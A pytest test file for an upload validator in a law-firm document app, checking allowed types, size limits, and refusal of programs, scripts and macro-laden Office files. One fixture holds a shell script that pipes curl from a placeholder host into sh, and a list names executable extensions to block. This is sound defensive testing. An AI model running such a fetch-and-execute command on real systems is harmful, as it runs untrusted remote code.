import io
import zipfile

import pytest

from firmdesk.common.errors import ServiceError
from firmdesk.documents.validation import check_upload, human_size

from .helpers import EXE, OLE, PDF, docx_bytes, upload
from .ole import ole_file

MIB = 1024 * 1024
WORD_97 = ole_file({"WordDocument": b"Dear Ms Lopez", "1Table": b"", "Data": b""})
EXCEL_97 = ole_file({"Workbook": b"Ledger"})
POWERPOINT_97 = ole_file({"PowerPoint Document": b"Slides", "Current User": b""})
EMAIL = b"From: Ana Lopez <ana@example.com>\r\nSubject: Lease\r\n\r\nSee attached.\r\n"


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("Retainer.pdf", PDF, "application/pdf"),
        (
            "Motion draft.DOCX",
            docx_bytes(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("old brief.doc", WORD_97, "application/msword"),
        ("ledger.xls", EXCEL_97, "application/vnd.ms-excel"),
        ("slides.ppt", POWERPOINT_97, "application/vnd.ms-powerpoint"),
        ("letter.rtf", b"{\\rtf1\\ansi Dear Ms Lopez}", "application/rtf"),
        ("exhibit.png", b"\x89PNG\r\n\x1a\n" + bytes(20), "image/png"),
        ("photo.JPG", b"\xff\xd8\xff\xe0" + bytes(20), "image/jpeg"),
        ("stamp.gif", b"GIF89a" + bytes(20), "image/gif"),
        ("scan.tif", b"II*\x00" + bytes(20), "image/tiff"),
        ("notes.txt", "Témoin: Zoë Ødegaard".encode(), "text/plain"),
        ("clients.csv", "name,city\nZoë,Malmö\n".encode("cp1252"), "text/csv"),
        ("from client.eml", EMAIL, "message/rfc822"),
        ("from client.msg", OLE, "application/vnd.ms-outlook"),
    ],
)
def test_accepts_the_files_a_firm_works_with_and_names_their_type(
    name, content, content_type
):
    assert check_upload(upload(name, content)) == (content_type, len(content))


@pytest.mark.parametrize("name", ["scan", "notes.xyz", "archive.zip"])
def test_other_kinds_of_file_are_refused_with_what_to_upload_instead(name):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, EXE))
    assert refused.value.message == (
        f"“{name}” is not a kind of file FirmDesk accepts. Upload a PDF, Word, "
        "Excel, PowerPoint, text, image or e-mail file."
    )
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("x.pdf", EXE, "a PDF"),
        ("x.docx", PDF, "a Word document"),
        ("x.doc", docx_bytes(), "a Word document"),
        ("x.png", b"\xff\xd8\xff\xe0" + bytes(20), "a PNG image"),
        ("x.msg", EMAIL, "an Outlook message"),
        ("x.eml", EXE, "an e-mail message"),
        ("x.txt", b"text\x00with NUL", "a text file"),
        ("x.csv", b"a,b\n" + EXE, "a CSV file"),
    ],
)
def test_a_file_whose_contents_contradict_its_name_is_refused(name, content, kind):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, content))
    assert refused.value.message.startswith(
        f"The file “{name}” does not look like {kind}:"
    )


def test_text_that_is_not_utf8_is_refused_with_how_to_save_it():
    with pytest.raises(ServiceError) as refused:
        check_upload(upload("notes.txt", "Malmö".encode("cp1252")))
    assert "not saved as UTF-8" in refused.value.message
    assert "encoding set to UTF-8" in refused.value.message


def test_utf8_split_across_chunks_is_still_text():
    # 64 KiB chunks: with the odd byte first, the boundary splits an "é".
    content = b"a" + "é".encode() * 40_000
    assert check_upload(upload("long.txt", content))[0] == "text/plain"


def test_an_empty_file_is_refused():
    with pytest.raises(ServiceError) as refused:
        check_upload(upload("blank.pdf", b""))
    assert refused.value.message == (
        "“blank.pdf” is empty. Check that you chose the right file and upload it again."
    )


def test_a_file_over_the_limit_is_refused_naming_both_sizes():
    content = PDF + bytes(int(31.2 * MIB) - len(PDF))
    with pytest.raises(ServiceError) as refused:
        check_upload(upload("big.pdf", content))
    assert refused.value.message == (
        "“big.pdf” is 31.2 MB; the largest file FirmDesk accepts is 25 MB. "
        "Compress it or split it."
    )


def test_the_limit_comes_from_settings_and_one_byte_over_never_reads_as_equal(
    settings,
):
    settings.FIRMDESK_UPLOAD_MAX_BYTES = MIB
    assert check_upload(upload("ok.pdf", PDF + bytes(MIB - len(PDF))))[1] == MIB
    with pytest.raises(ServiceError) as refused:
        check_upload(upload("big.pdf", PDF + bytes(MIB + 1 - len(PDF))))
    assert "is 1.1 MB; the largest file FirmDesk accepts is 1 MB" in (
        refused.value.message
    )


@pytest.mark.parametrize(
    ("size", "shown"),
    [(80, "80 bytes"), (512 * 1024, "512 KB"), (25 * MIB, "25 MB")],
)
def test_human_size(size, shown):
    assert human_size(size) == shown


def test_check_leaves_the_file_ready_to_read_from_the_start():
    file = upload("notes.txt", b"hello")
    check_upload(file)
    assert file.read() == b"hello"


# --- Programs and macros (issue 19, item 1) --------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(24)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


@pytest.mark.parametrize(
    "name",
    [
        "setup.exe",
        "invoice.pdf.exe",
        "Install.MSI",
        "run.bat",
        "run.cmd",
        "cleanup.ps1",
        "letter.vbs",
        "open-me.js",
        "screen.scr",
        "old.com",
        "tool.jar",
        "fix.sh",
        "shortcut.lnk",
        "page.hta",
    ],
)
def test_programs_and_scripts_are_refused_by_name_saying_they_are_programs(name):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, PDF))
    message = refused.value.message
    assert message.startswith(f"“{name}” is not a kind of file FirmDesk accepts:")
    assert "it is a program or script, not a document" in message
    assert message.endswith(
        "Upload a PDF, Word, Excel, PowerPoint, text, image or e-mail file."
    )
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("brief.pdf", EXE, "a PDF"),
        ("scan.png", ELF, "a PNG image"),
        ("photo.jpg", MACHO, "a JPEG image"),
        ("motion.docx", EXE, "a Word document"),
        ("ledger.xls", EXE, "an Excel workbook"),
        ("notes.txt", SCRIPT, "a text file"),
        ("list.csv", SCRIPT, "a CSV file"),
    ],
)
def test_a_program_behind_a_document_name_is_refused_as_a_program(name, content, kind):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, content))
    message = refused.value.message
    assert message.startswith(f"The file “{name}” does not look like {kind}:")
    assert "is a program, not a document" in message
    assert "ask whoever sent it to send the document itself" in message


def test_a_text_note_that_begins_with_mz_is_still_text():
    assert check_upload(upload("notes.txt", b"MZ Holdings: call back"))[0] == (
        "text/plain"
    )


@pytest.mark.parametrize(
    ("name", "app", "save_as"),
    [
        ("Engagement.docm", "Word", "Word Document (.docx)"),
        ("Letterhead.dotm", "Word", "Word Document (.docx)"),
        ("Ledger.XLSM", "Excel", "Excel Workbook (.xlsx)"),
        ("Binary.xlsb", "Excel", "Excel Workbook (.xlsx)"),
        ("Deck.pptm", "PowerPoint", "PowerPoint Presentation (.pptx)"),
        ("Show.ppsm", "PowerPoint", "PowerPoint Presentation (.pptx)"),
    ],
)
def test_macro_enabled_office_names_are_refused_with_how_to_save_without(
    name, app, save_as
):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, docx_bytes()))
    assert refused.value.message == (
        f"“{name}” is {app} file with macros, and FirmDesk refuses macros: they are "
        f"small programs that run when the file is opened. Open it in {app}, choose "
        f"File › Save As › {save_as} (that leaves the macros out) and upload that."
    )


WORD_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)


def _package(*, extra: dict[str, bytes], content_type: str = WORD_MAIN) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Override PartName="/word/document.xml" '
            f'ContentType="{content_type}"/>'
            "</Types>",
        )
        package.writestr("word/document.xml", "<w:document/>")
        for part, data in extra.items():
            package.writestr(part, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "app", "save_as"),
    [
        (
            "renamed.docx",
            _package(extra={"word/vbaProject.bin": OLE}),
            "Word",
            "Word Document (.docx)",
        ),
        (
            "renamed.xlsx",
            _package(
                extra={},
                content_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ),
            "Excel",
            "Excel Workbook (.xlsx)",
        ),
        (
            "renamed.pptx",
            _package(extra={"ppt/vbaProject.bin": OLE}),
            "PowerPoint",
            "PowerPoint Presentation (.pptx)",
        ),
        (
            "old.doc",
            ole_file(
                {"WordDocument": b"x", "Macros/VBA/dir": b"", "Macros/PROJECT": b""}
            ),
            "Word",
            "Word Document (.docx)",
        ),
        (
            "old.xls",
            ole_file({"Workbook": b"x", "_VBA_PROJECT_CUR/VBA/dir": b""}),
            "Excel",
            "Excel Workbook (.xlsx)",
        ),
        (
            "old.ppt",
            ole_file({"PowerPoint Document": b"x", "_VBA_PROJECT/VBA/dir": b""}),
            "PowerPoint",
            "PowerPoint Presentation (.pptx)",
        ),
    ],
    ids=["docx-vba", "xlsx-macro-type", "pptx-vba", "doc-vba", "xls-vba", "ppt-vba"],
)
def test_office_files_carrying_macros_are_refused_whatever_their_name(
    name, content, app, save_as
):
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, content))
    assert refused.value.message == (
        f"“{name}” contains macros (small programs that run when the file is "
        f"opened), and FirmDesk refuses them. Open it in {app}, choose File › "
        f"Save As › {save_as} (that leaves the macros out) and upload that."
    )


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("broken.docx", b"PK\x03\x04" + bytes(40), "a Word document"),
        ("no-types.xlsx", None, "an Excel workbook"),
        ("stub.doc", OLE, "a Word document"),
    ],
)
def test_a_package_or_compound_file_that_cannot_be_read_is_not_the_document(
    name, content, kind
):
    if content is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as package:
            package.writestr("xl/workbook.xml", "<workbook/>")
        content = buffer.getvalue()
    with pytest.raises(ServiceError) as refused:
        check_upload(upload(name, content))
    assert refused.value.message.startswith(
        f"The file “{name}” does not look like {kind}:"
    )


def test_a_real_word_document_without_macros_is_accepted_and_left_readable():
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Dear Ms Lopez")
    document.save(buffer)
    file = upload("Letter.docx", buffer.getvalue())
    assert check_upload(file)[0].endswith("wordprocessingml.document")
    assert file.read() == buffer.getvalue()
